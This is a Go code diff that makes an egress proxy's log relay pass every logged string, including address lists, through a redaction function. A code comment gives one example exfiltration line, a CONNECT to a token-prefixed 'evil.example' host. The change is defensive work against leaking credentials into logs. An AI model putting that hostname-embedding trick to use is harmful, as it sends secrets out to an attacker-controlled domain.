@@ -16,8 +16,16 @@ import (
 // component=mitrity-egressproxy: the proxy's decisions reach the operator
 // in the gateway's own log, filtered by its level. A string the run chose
 // (a destination, a header) with control characters in it is quoted, so
-// that it cannot write to the operator's terminal.
-func LogTo(l zerolog.Logger) io.Writer { return logRelay{l} }
+// that it cannot write to the operator's terminal. Every string is passed
+// through scrub first (nil: none): a run can spell a destination with a
+// credential it was given (CONNECT $TOKEN.evil.example:443), and the proxy,
+// which holds no values, logs the name as asked.
+func LogTo(l zerolog.Logger, scrub func(string) string) io.Writer {
+	if scrub == nil {
+		scrub = func(s string) string { return s }
+	}
+	return logRelay{l, scrub}
+}
 
 // LogLevel is the level to start the proxy at so that it produces what l
 // keeps: l's own level (warn when l keeps nothing finer than that).
@@ -29,7 +37,10 @@ func LogLevel(l zerolog.Logger) string {
 	return "error"
 }
 
-type logRelay struct{ l zerolog.Logger }
+type logRelay struct {
+	l     zerolog.Logger
+	scrub func(string) string
+}
 
 func (r logRelay) Write(p []byte) (int, error) {
 	line := strings.TrimSpace(string(p))
@@ -38,7 +49,7 @@ func (r logRelay) Write(p []byte) (int, error) {
 	}
 	var m map[string]any
 	if err := json.Unmarshal([]byte(line), &m); err != nil {
-		r.l.Warn().Str("component", BinaryName).Str("line", safe(line)).Msg("a log line of the egress proxy that is not JSON")
+		r.l.Warn().Str("component", BinaryName).Str("line", safe(r.scrub(line))).Msg("a log line of the egress proxy that is not JSON")
 		return len(p), nil
 	}
 	lvl, err := zerolog.ParseLevel(fmt.Sprint(m["level"]))
@@ -50,11 +61,18 @@ func (r logRelay) Write(p []byte) (int, error) {
 	delete(m, "message")
 	delete(m, "time")
 	for k, v := range m {
-		if s, ok := v.(string); ok {
-			m[k] = safe(s)
+		switch v := v.(type) {
+		case string:
+			m[k] = safe(r.scrub(v))
+		case []any: // addrs
+			for i, e := range v {
+				if s, ok := e.(string); ok {
+					v[i] = safe(r.scrub(s))
+				}
+			}
 		}
 	}
-	r.l.WithLevel(lvl).Str("component", BinaryName).Fields(m).Msg(safe(msg))
+	r.l.WithLevel(lvl).Str("component", BinaryName).Fields(m).Msg(safe(r.scrub(msg)))
 	return len(p), nil
 }
 
